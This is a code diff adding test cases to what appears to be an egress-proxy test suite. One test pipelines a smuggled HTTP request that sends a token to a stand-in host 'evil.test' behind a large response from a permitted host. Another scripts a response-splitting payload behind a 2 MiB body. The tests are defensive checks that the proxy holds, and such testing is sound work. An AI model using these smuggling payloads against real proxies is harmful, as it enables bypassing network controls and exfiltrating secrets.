@@ -150,6 +150,7 @@ pub(crate) fn rows() -> Vec<Row> {
         })
         .collect();
     rows.extend(http2());
+    rows.push(behind_a_large_answer());
     rows.extend(responses());
     rows.extend(proxy());
     rows
@@ -175,12 +176,28 @@ fn http2() -> Vec<Row> {
     ]
 }
 
+/// Egress gives a connection away once the head of a large answer is through, and looks at no request behind it.
+fn behind_a_large_answer() -> Row {
+    attempt("http-behind-a-large-answer", "sends a request for another host behind one with a large answer")
+        .grant(["good.test:80"])
+        .python(
+            "both = b'GET /big HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\nGET /{token} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'\n\
+             got = say('good.test', 80, both, b'page of evil.test', 3)\n\
+             if b'page of evil.test' in got: escaped('its page came')\n\
+             held('%d MiB of it' % (got.count(b'x') >> 20))",
+        )
+        .shows("held: 8 MiB of it")
+        .unheard()
+        .row()
+}
+
 /// A server that is granted but hostile: nothing that it says makes two answers of one.
 fn responses() -> Vec<Row> {
-    let row = |name: &str, what: &str, answer: &'static [u8]| {
+    let row = |name: &str, what: &str, answer: &[u8]| {
+        let answer = answer.to_vec();
         attempt(format!("response-{name}"), what)
             .set_up(move |internet, _| {
-                internet.recorder.script(answer);
+                internet.recorder.script(answer.clone());
                 Vec::new()
             })
             .grant(["raw.test:8081"])
@@ -196,6 +213,16 @@ fn responses() -> Vec<Row> {
             "splitting",
             "gets a second answer behind the first",
             b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nokHTTP/1.1 200 OK\r\nX: smuggled\r\nContent-Length: 0\r\n\r\n",
+        ),
+        row(
+            "splitting-large",
+            "gets a second answer behind one that is spliced",
+            &[
+                b"HTTP/1.1 200 OK\r\nContent-Length: 2097152\r\n\r\n",
+                &[b'x'; 2 << 20][..],
+                b"HTTP/1.1 200 OK\r\nX: smuggled\r\nContent-Length: 0\r\n\r\n",
+            ]
+            .concat(),
         ),
         row(
             "two-lengths",
